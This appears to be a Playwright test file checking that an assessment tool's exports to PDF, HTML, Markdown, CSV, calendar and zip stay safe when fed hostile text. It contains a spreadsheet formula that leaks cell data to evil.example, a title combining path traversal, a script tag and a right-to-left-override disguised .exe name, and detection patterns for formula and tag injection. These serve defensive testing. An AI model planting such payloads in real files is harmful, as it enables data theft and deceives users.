import { readFileSync } from 'node:fs';
import { buffer } from 'node:stream/consumers';
import { pathToFileURL } from 'node:url';
import type { Page } from '@playwright/test';
import { expect } from '@playwright/test';
import { HtmlRenderer, Parser } from 'commonmark';
import { parse } from 'csv-parse/sync';
import ical from 'ical.js';
import { fromBufferPromise } from 'yauzl';
import { assessmentDocument, jsonFile, openFiles } from '../support/assessment-file.ts';
import { test } from '../support/test.ts';
import { pdfPages } from '../support/text.ts';

/** Without the one character that no file may hold: it is dropped where a file is opened. */
const HTML = readFileSync('e2e/fixtures/bad/html-payloads.txt', 'utf8').replaceAll('\0', '').trim();
const MARKDOWN = readFileSync('e2e/fixtures/bad/markdown-payloads.md', 'utf8').trim();
const FORMULA = '=HYPERLINK("https://evil.example?leak="&A1,"click")';
const TITLE = '../../CON: <script>alert(1)</script> =1+1 fdp.exe';
/** A sign that turns round what follows it: names lose it when they are read. */
const TURNED_TITLE = TITLE.replace('fdp', '\u202Efdp');
/** What every format must hold: in the note of an answer, in the name of a stack, in a title. */
const DOCUMENT = assessmentDocument('nasty', {
  title: TURNED_TITLE,
  reviewBy: '2027-05-01',
  profile: { clients: { kind: 'choices', choices: ['several'], note: HTML, owner: FORMULA } },
  candidates: [
    { id: 'one', name: FORMULA, note: MARKDOWN, answers: { caching: { kind: 'unknown', note: MARKDOWN } } },
  ],
  decided: { separation: { status: 'accepted', option: 'separate', reason: HTML, deciders: [FORMULA] } },
});
const TEAM = [
  ...['PDF', 'Web page', 'Markdown', 'Assessment file', 'Result', 'Answers as a table', 'Plan as a table'],
  ...['Plan for Jira', 'Plan for Linear', 'Plan for GitHub', 'Calendar', 'Decision records'],
];
const VENDOR = ['PDF', 'Web page', 'Markdown', 'Letter', 'Form as a table', 'Form as text'];
const FORMULA_START = /^[=+\-@\t\r\n\0＝＋－＠]/;

const letters = (text: string) => text.replace(/[\s\u202e]/gu, '');
const rowsOf = (path: string): string[][] =>
  parse(readFileSync(path), { bom: true, relax_column_count: true });

/** Every format of the reader that is chosen, by its title: where it was stored, and under which name it was offered. */
async function takeAll(page: Page, titles: readonly string[], folder: (name: string) => string) {
  const taken = new Map<string, string>();
  for (const title of titles) {
    const started = page.waitForEvent('download');
    await page.getByRole('button', { name: `Download: ${title}`, exact: true }).click();
    const file = await started;
    expect(file.suggestedFilename()).toMatch(/^[\p{L}\p{N}][\p{L}\p{N}-]{0,80}(\.[a-z]+){1,2}$/u);
    const path = folder(`${titles.length} ${file.suggestedFilename()}`);
    await file.saveAs(path);
    taken.set(title, path);
  }
  return (title: string) => taken.get(title) ?? '';
}

async function openNasty(page: Page): Promise<void> {
  await page.goto('/import');
  await openFiles(page, [jsonFile('nasty.json', DOCUMENT)]);
  await expect(page).toHaveURL(/\/a\/nasty$/);
  await page.goto('/a/nasty/report');
}

test('the nastiest texts stay texts in every file for the team, each opened by another program', async ({
  page,
}, info) => {
  await openNasty(page);
  const path = await takeAll(page, TEAM, (name) => info.outputPath(name));

  const [first = ''] = HTML.split('\n');
  const happened: string[] = [];
  await page.goto('about:blank');
  page.on('dialog', (dialog) => happened.push(`dialog ${dialog.message()}`));
  page.on('request', (request) => happened.push(request.url()));
  const address = pathToFileURL(path('Web page')).href;
  await page.goto(address);
  await expect(page.getByText(first, { exact: false }).first()).toBeVisible();
  await expect(page.locator('script, img, iframe, object, embed, form, [onerror], [onload]')).toHaveCount(0);
  expect(happened.filter((what) => what !== address && !what.startsWith('data:'))).toEqual([]);

  const markdown = new HtmlRenderer().render(new Parser().parse(readFileSync(path('Markdown'), 'utf8')));
  expect(markdown).not.toMatch(/<(script|img|iframe|svg|a href="(?!https:))/i);
  expect(markdown).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');

  const answers = rowsOf(path('Answers as a table'));
  const note = answers[0]?.indexOf('Note') ?? -1;
  expect(answers.find((row) => row[2] === 'clients')?.[note]).toBe(
    FORMULA_START.test(HTML) ? `'${HTML}` : HTML,
  );
  expect(answers.find((row) => row[2] === 'caching')?.[0]).toBe(`'${FORMULA}`);
  for (const title of TEAM.filter((one) => /table|Jira|Linear|GitHub/.test(one)))
    for (const cell of rowsOf(path(title)).flat()) expect(cell).not.toMatch(FORMULA_START);

  const calendar = new ical.Component(ical.parse(readFileSync(path('Calendar'), 'utf8')));
  const [review] = calendar.getAllSubcomponents('vevent').map((event) => new ical.Event(event).summary);
  expect(letters(review ?? '')).toBe(letters(`Review: ${TITLE}`));

  const zip = await fromBufferPromise(readFileSync(path('Decision records')));
  const names: string[] = [];
  for await (const entry of zip.eachEntry()) {
    names.push(entry.fileName);
    const record = (await buffer(await zip.openReadStreamPromise(entry))).toString('utf8');
    expect(record.replace(/\\./g, '')).not.toContain('<script>');
  }
  expect(names.filter((name) => !/^docs\/decisions\/[a-z0-9-]+\.md$/.test(name))).toEqual([]);

  expect(JSON.parse(readFileSync(path('Assessment file'), 'utf8'))).toMatchObject({
    ...DOCUMENT,
    title: TITLE,
  });
  expect(JSON.parse(readFileSync(path('Result'), 'utf8')).candidates[0].name).toBe(FORMULA);

  const pages = letters((await pdfPages(path('PDF'))).join(' '));
  for (const text of [TITLE, FORMULA, first]) expect(pages).toContain(letters(text));
});

test('and in every file for a vendor', async ({ page }, info) => {
  await openNasty(page);
  await page.getByLabel('A vendor', { exact: true }).check();
  const path = await takeAll(page, VENDOR, (name) => info.outputPath(name));
  for (const title of ['Markdown', 'Letter', 'Form as text']) {
    const html = new HtmlRenderer().render(new Parser().parse(readFileSync(path(title), 'utf8')));
    expect(html).not.toMatch(/<(script|img|iframe|svg|a href="(?!https:))/i);
    expect(letters(html)).toContain(letters('=HYPERLINK(&quot;https://evil.example'));
  }
  for (const cell of rowsOf(path('Form as a table')).flat()) expect(cell).not.toMatch(FORMULA_START);
  expect(letters((await pdfPages(path('PDF'))).join(' '))).toContain(letters(FORMULA));
  // Nothing but the questions goes to a vendor.
  for (const title of VENDOR.slice(1)) expect(readFileSync(path(title), 'utf8')).not.toContain('onerror');
});
